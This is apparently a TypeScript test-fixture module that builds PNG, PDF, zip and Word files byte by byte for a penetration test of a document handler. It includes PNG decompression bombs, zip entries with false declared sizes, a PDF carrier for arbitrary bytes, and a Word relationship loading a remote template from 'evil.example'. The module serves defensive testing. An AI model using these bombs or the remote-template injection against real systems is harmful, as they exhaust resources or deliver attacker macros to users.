/**
 * Documents made byte by byte for the tests: PNGs of any declared size and data stream, PDFs whose
 * objects sit in a compressed object stream (as every PDF 1.5+ writer makes them), and zip
 * packages whose entries are stored or deflated and may lie about their size.
 */
import { crc32, deflateRawSync, deflateSync } from 'node:zlib';

const PNG_SIGNATURE = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);

export function pngChunk(type: string, data: Buffer): Buffer {
  const head = Buffer.alloc(4);
  head.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body));
  return Buffer.concat([head, body, crc]);
}

/** An RGB PNG (8 bits a sample) that declares `width` x `height` and carries `idat` (already deflated) as its image data. */
export function pngWithData(width: number, height: number, idat: Buffer, extraChunks: Buffer[] = []): Buffer {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr[8] = 8;
  ihdr[9] = 2;
  return Buffer.concat([PNG_SIGNATURE, pngChunk('IHDR', ihdr), ...extraChunks, pngChunk('IDAT', idat), pngChunk('IEND', Buffer.alloc(0))]);
}

/** A whole RGB PNG of the given size, black (its rows of zeros deflate to almost nothing). */
export function blackPng(width: number, height: number, extraChunks: Buffer[] = []): Buffer {
  return pngWithData(width, height, deflateSync(Buffer.alloc(height * (1 + width * 3)), { level: 9 }), extraChunks);
}

/**
 * The two bombs of the penetration test: one declares 20,000 x 20,000 pixels (1.2 GB of RGB) in
 * a few hundred kilobytes; the other declares 100 x 100 but its data stream inflates to 300 MB.
 */
export function pngBombs(): { largeDeclared: Buffer; hugeStream: Buffer } {
  const zeros = Buffer.alloc(300 * 1024 * 1024);
  const stream = deflateSync(zeros, { level: 9 });
  return { largeDeclared: pngWithData(20_000, 20_000, stream), hugeStream: pngWithData(100, 100, stream) };
}

/**
 * A PDF 1.7 whose objects `inner` are in a Flate-compressed object stream, `outer` beside it,
 * with a cross-reference stream (pdfinfo and every viewer read it). Object 1 must be the catalog.
 * `trailer` adds entries to the cross-reference stream's dictionary (/Encrypt …).
 */
export function pdfWithObjectStream(inner: Record<number, string>, outer: Record<number, string> = {}, trailer = ''): Buffer {
  const innerNumbers = Object.keys(inner).map(Number);
  const outerNumbers = Object.keys(outer).map(Number);
  const streamNumber = [...innerNumbers, ...outerNumbers].reduce((a, b) => Math.max(a, b), 0) + 1;
  const xrefNumber = streamNumber + 1;
  let body = '';
  const offsets: string[] = [];
  for (const n of innerNumbers) {
    offsets.push(`${n} ${body.length}`);
    body += `${inner[n]}\n`;
  }
  const index = `${offsets.join(' ')}\n`;
  const packed = deflateSync(Buffer.from(index + body, 'latin1'));
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1')];
  const at = new Map<number, number>();
  let length = parts[0]!.length;
  const add = (n: number, chunk: Buffer) => {
    at.set(n, length);
    parts.push(chunk);
    length += chunk.length;
  };
  for (const n of outerNumbers) add(n, Buffer.from(`${n} 0 obj\n${outer[n]}\nendobj\n`, 'latin1'));
  add(
    streamNumber,
    Buffer.concat([
      Buffer.from(
        `${streamNumber} 0 obj\n<< /Type /ObjStm /N ${innerNumbers.length} /First ${index.length} /Filter /FlateDecode /Length ${packed.length} >>\nstream\n`,
        'latin1',
      ),
      packed,
      Buffer.from('\nendstream\nendobj\n', 'latin1'),
    ]),
  );
  // Cross-reference entries: type (1 byte), offset or object stream number (4), generation or index (4).
  const size = xrefNumber + 1;
  const entries = Buffer.alloc(size * 9);
  const indexOf = new Map(innerNumbers.map((n, i) => [n, i]));
  for (let n = 0; n < size; n += 1) {
    const row = entries.subarray(n * 9);
    const innerIndex = indexOf.get(n) ?? -1;
    if (n === 0) row.writeUInt32BE(0xffff, 5);
    else if (innerIndex >= 0) {
      row[0] = 2;
      row.writeUInt32BE(streamNumber, 1);
      row.writeUInt32BE(innerIndex, 5);
    } else if (n === xrefNumber) {
      row[0] = 1;
      row.writeUInt32BE(length, 1);
    } else if (at.has(n)) {
      row[0] = 1;
      row.writeUInt32BE(at.get(n) ?? 0, 1);
    }
  }
  const xrefAt = length;
  const xref = deflateSync(entries);
  add(
    xrefNumber,
    Buffer.concat([
      Buffer.from(
        `${xrefNumber} 0 obj\n<< /Type /XRef /Size ${size} /W [1 4 4] /Root 1 0 R ${trailer}/Filter /FlateDecode /Length ${xref.length} >>\nstream\n`,
        'latin1',
      ),
      xref,
      Buffer.from(`\nendstream\nendobj\nstartxref\n${xrefAt}\n%%EOF\n`, 'latin1'),
    ]),
  );
  return Buffer.concat(parts);
}

/** A one-page PDF whose catalog and page tree are in the object stream, with `catalog` added to the catalog and `more` objects beside. */
export function compressedPdf(catalog = '', more: Record<number, string> = {}): Buffer {
  return pdfWithObjectStream(
    { 1: `<< /Type /Catalog /Pages 2 0 R ${catalog}>>`, 2: '<< /Type /Pages /Kids [3 0 R] /Count 1 >>', ...more },
    { 3: '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>' },
  );
}

export interface ZipEntry {
  data: string | Buffer;
  /** Deflate the entry (default: stored). */
  deflate?: boolean;
  /** The size the entry's headers declare it unpacks to (default: its true size). */
  declaredSize?: number;
}

/** A zip of the given entries, written as Office writes them (local headers, central directory, end record). */
export function zip(entries: Record<string, string | ZipEntry>): Buffer {
  const locals: Buffer[] = [];
  const central: Buffer[] = [];
  let offset = 0;
  for (const [name, spec] of Object.entries(entries)) {
    const entry = typeof spec === 'string' ? { data: spec } : spec;
    const data = Buffer.from(entry.data);
    const packed = entry.deflate ? deflateRawSync(data) : data;
    const declared = entry.declaredSize ?? data.length;
    const fileName = Buffer.from(name);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(entry.deflate ? 8 : 0, 8);
    local.writeUInt32LE(crc32(data), 14);
    local.writeUInt32LE(packed.length, 18);
    local.writeUInt32LE(declared, 22);
    local.writeUInt16LE(fileName.length, 26);
    const record = Buffer.alloc(46);
    record.writeUInt32LE(0x02014b50, 0);
    record.writeUInt16LE(20, 4);
    record.writeUInt16LE(20, 6);
    record.writeUInt16LE(entry.deflate ? 8 : 0, 10);
    record.writeUInt32LE(crc32(data), 16);
    record.writeUInt32LE(packed.length, 20);
    record.writeUInt32LE(declared, 24);
    record.writeUInt16LE(fileName.length, 28);
    record.writeUInt32LE(offset, 42);
    locals.push(local, fileName, packed);
    central.push(record, fileName);
    offset += 30 + fileName.length + packed.length;
  }
  const directory = Buffer.concat(central);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(Object.keys(entries).length, 8);
  end.writeUInt16LE(Object.keys(entries).length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, directory, end]);
}

/** The parts of a minimal Word document. */
export const WORD_PACKAGE: Record<string, string> = {
  '[Content_Types].xml':
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
  '_rels/.rels':
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>',
  'word/document.xml': '<?xml version="1.0"?><w:document/>',
};

/** A relationships part with one relationship of the given target mode attribute (as written, escapes included). */
export const relationships = (targetMode: string) =>
  `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="${targetMode}"/></Relationships>`;

/** A whole PDF (`pdf`, with a classic cross-reference table) with `bytes` as a stream object of its own, its offsets kept right. */
export function pdfCarrying(pdf: Buffer, bytes: Buffer): Buffer {
  const text = pdf.toString('latin1');
  const xrefAt = text.indexOf('xref');
  const extra = `9 0 obj\n<< /Length ${bytes.length} >>\nstream\n${bytes.toString('latin1')}\nendstream\nendobj\n`;
  const startxref = Number(/startxref\s+(\d+)/.exec(text)?.[1]);
  return Buffer.from(
    text.slice(0, xrefAt) + extra + text.slice(xrefAt).replace(/startxref\s+\d+/, `startxref\n${startxref + extra.length}`),
    'latin1',
  );
}
